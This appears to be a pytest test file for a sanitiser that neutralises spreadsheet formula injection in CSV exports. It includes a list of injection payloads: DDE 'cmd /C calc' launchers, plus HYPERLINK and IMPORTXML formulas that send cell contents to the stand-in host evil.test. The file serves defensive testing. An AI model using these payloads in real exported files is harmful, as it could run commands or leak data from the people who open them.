"""A cell of a file is not run by a spreadsheet, and what it was made for can be had back."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

import spreadsheet_files as sheet
from passback.core import cells
from passback.core.cells import csv_text, is_key, original, safe
from passback.core.value import plain

# As the pages of OWASP and of those who test for it have them.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"click")',
    "+1+1",
    "+cmd|' /C notepad'!A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "=",
    "-",
    "+",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tname",
    "\0=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u3000@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '="0011"',
    '=IMPORTXML(CONCAT("http://evil.test/",A2:E2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "-5e3",
    "-5,0",
    "- 5",
    "-5\n=1",
    "'=1+1",
    "''=1+1",
    "' =1+1",
]
HARMLESS = [
    "",
    "Essay",
    "-5",
    "-5.25",
    "0",
    "'Ohana",
    "''",
    "O'Brien-=+",
    "a=1",
    'Ünal, "Zoë"',
    "🦊 ＆",
    "5-3",
]
hostile = st.text(
    alphabet=st.sampled_from(list("=+-@'\t\r\n\0 ,\";ab1.é🦊＝－\ufeff\u200b\xa0")), max_size=12
)


@pytest.mark.parametrize("text", PAYLOADS)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert safe(text) == f"'{text}"
    assert original(safe(text)) == text
    assert sheet.text_of(safe(text)) == text
    assert not is_key(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_nobody_would_run_stays_as_it_is(text: str) -> None:
    assert safe(text) == text == original(text)


@given(hostile | st.text())
def test_any_text_comes_back_and_is_never_run(text: str) -> None:
    assert not sheet.would_run(safe(text))
    assert original(safe(text)) == text == sheet.text_of(safe(text))


@given(st.lists(st.tuples(hostile | st.text(), hostile), max_size=5))
def test_rows_of_hostile_names_come_back_from_the_file_as_they_were(rows: list[tuple[str, str]]) -> None:
    kept = [tuple(cell.encode("utf-8", "replace").decode() for cell in row) for row in rows]
    text = csv_text(("name", "title"), rows).encode()

    head, *read = csv.reader(io.StringIO(text.decode(), newline=""), strict=True)

    assert head == ["name", "title"]
    same = [tuple(cell.replace("?", "\ufffd") for cell in row) for row in kept]
    assert [tuple(sheet.text_of(cell).replace("?", "\ufffd") for cell in row) for row in read] == same


@given(st.decimals(allow_nan=False, allow_infinity=False, min_value=-(10**6), max_value=10**6))
def test_a_score_is_never_dressed_whatever_its_sign(number: Decimal) -> None:
    assert safe(plain(number)) == plain(number)


def test_a_row_that_is_too_short_or_too_long_is_never_written() -> None:
    for row in (("one",), ("one", "two", "three")):
        with pytest.raises(ValueError, match="under a head of 2"):
            csv_text(("a", "b"), [row])


@pytest.mark.parametrize(
    "pattern", [r"'*(?:[\s]*[=+@])", r"(?:[\s\ufeff\u200b-\u200f\0]*[=+\-@＝＋－＠]|[\t\r\n\0])"]
)
def test_a_rule_that_forgets_a_sign_or_an_apostrophe_is_seen(
    pattern: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The planted fault: a minus that is overlooked; an apostrophe of the text's own that is lost."""
    monkeypatch.setattr(cells, "_RUN", __import__("re").compile(pattern))

    wrong = [text for text in PAYLOADS if safe(text) != f"'{text}" or original(safe(text)) != text]

    assert wrong
